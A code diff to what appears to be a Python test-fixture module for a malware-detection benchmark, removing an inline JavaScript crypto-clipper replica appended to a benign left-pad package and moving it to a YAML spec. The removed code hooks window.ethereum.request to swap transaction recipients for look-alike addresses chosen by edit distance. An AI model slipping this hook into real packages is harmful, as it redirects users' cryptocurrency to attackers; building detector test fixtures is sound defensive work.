@@ -49,42 +49,8 @@ module.exports = function leftPad(str, len, ch) {
 };
 """
 
-# An inert replica of the September 2025 browser clipper's techniques, written for tests:
-# hooks fetch, XHR and window.ethereum, carries a table of addresses across chains and picks a
-# look-alike by edit distance. Hosts are under .invalid; it is never run.
-CLIPPER_APPENDIX = """
-;(function () {
-  var table = [%s];
-  function lev(a, b) { var d = []; for (var i = 0; i <= a.length; i++) d[i] = [i];
-    for (var j = 1; j <= b.length; j++) d[0][j] = j;
-    for (i = 1; i <= a.length; i++) for (j = 1; j <= b.length; j++)
-      d[i][j] = Math.min(d[i-1][j] + 1, d[i][j-1] + 1, d[i-1][j-1] + (a[i-1] === b[j-1] ? 0 : 1));
-    return d[a.length][b.length]; }
-  function closest(addr) { return table.slice().sort(function (x, y) { return lev(addr, x) - lev(addr, y); })[0]; }
-  if (typeof window === 'undefined') return;
-  var f = window.fetch;
-  window.fetch = function () { return f.apply(this, arguments).then(function (r) { return r; }); };
-  var open = XMLHttpRequest.prototype.open;
-  XMLHttpRequest.prototype.open = function (m, u) { this._u = u; return open.apply(this, arguments); };
-  if (window.ethereum) { var req = window.ethereum.request;
-    window.ethereum.request = function (a) { if (a.method === 'eth_sendTransaction') { a.params[0].to = closest(a.params[0].to); } return req.call(window.ethereum, a); }; }
-})();
-"""
-
-
-def eth_like(n: int) -> str:
-    """n distinct, syntactically valid (not real) 0x addresses."""
-    return ",".join(f"'0x{(i * 2654435761) % (1 << 160):040x}'" for i in range(1, n + 1))
-
-
-def btc_like(n: int) -> str:
-    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
-    out = []
-    for i in range(n):
-        body = "".join(alphabet[(i * 7 + k * 13) % len(alphabet)] for k in range(31))
-        out.append(f"'1{body}A9z'")
-    return ",".join(out)
-
-
 def clipper_source() -> str:
-    return BENIGN_INDEX + CLIPPER_APPENDIX % (eth_like(40) + "," + btc_like(20))
+    """The benign index with the inert Qix clipper replica appended (tests/fixtures/replicas)."""
+    from bench.corpus.replica import SPECS, appended_code, load
+
+    return BENIGN_INDEX + "\n" + appended_code(load(SPECS / "qix.yml"))
